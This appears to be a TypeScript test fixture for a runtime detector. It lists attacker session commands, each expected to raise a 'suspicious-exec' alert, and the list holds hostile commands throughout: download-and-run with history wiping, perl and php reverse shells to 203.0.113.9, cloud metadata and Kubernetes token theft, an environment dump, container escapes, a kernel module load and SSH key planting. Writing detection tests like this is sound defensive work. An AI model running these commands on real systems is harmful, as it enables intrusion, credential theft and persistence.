import { exec, type Attack } from '../trace.ts';

/** Commands of attackers in sessions. */
export const commands: readonly Attack[] = [
  [
    'session: history is removed after a download',
    (world) => {
      exec(world, 'eve', ['sh', '-c', 'wget http://203.0.113.9/x -O /tmp/x && chmod +x /tmp/x && /tmp/x; history -c']);
    },
    ['suspicious-exec'],
    'eve',
  ],
  [
    'session: sockets of the runtime',
    (world) => exec(world, 'eve', ['curl', '-s', '--unix-socket', '/var/run/docker.sock', 'http://localhost/containers/json']),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'session: cloud metadata by an address as a number',
    (world) => exec(world, 'eve', ['curl', 'http://0xa9fea9fe/latest/meta-data/']),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'session: cloud metadata of AWS by IPv6',
    (world) => exec(world, 'eve', ['curl', 'http://[fd00:ec2::254]/latest/api/token', '-X', 'PUT']),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'session: a perl shell',
    (world) => exec(world, 'eve', ['perl', '-e', 'use Socket;$i="203.0.113.9";socket(S,PF_INET,SOCK_STREAM,6);exec("/bin/sh -i");']),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'session: a php shell',
    (world) => exec(world, 'eve', ['php', '-r', '$s=fsockopen("203.0.113.9",443);exec("/bin/sh -i <&3 >&3");']),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'session: the API with the token',
    (world) =>
      exec(world, 'eve', [
        'sh',
        '-c',
        'TOKEN=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -k -H "Authorization: Bearer $TOKEN" https://10.96.0.1/api/v1/secrets',
      ]),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'session: the environment of all processes',
    (world) => exec(world, 'eve', ['sh', '-c', 'cat /proc/*/environ | tr "\\0" "\\n"']),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'session: kubectl with a token, from a container',
    (world) => exec(world, 'eve', ['./kubectl', '--token=abc', 'get', 'secrets', '-A']),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'session: escape by the release agent of cgroups',
    (world) =>
      exec(world, 'eve', ['sh', '-c', 'mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c && echo 1 > /tmp/c/x/notify_on_release']),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'session: disk of the node',
    (world) => exec(world, 'eve', ['sh', '-c', 'mknod /dev/d b 8 0 && mount /dev/sda1 /mnt']),
    ['suspicious-exec'],
    'eve',
  ],
  [
    'session: core pattern',
    (world) => exec(world, 'eve', ['sh', '-c', 'echo "|/tmp/x" > /proc/sys/kernel/core_pattern']),
    ['suspicious-exec'],
    'eve',
  ],
  ['session: a rootkit module', (world) => exec(world, 'eve', ['insmod', '/tmp/x.ko']), ['suspicious-exec'], 'eve'],
  [
    'session: ssh key',
    (world) => exec(world, 'eve', ['sh', '-c', 'echo ssh-rsa AAAA >> /root/.ssh/authorized_keys']),
    ['suspicious-exec'],
    'eve',
  ],
];
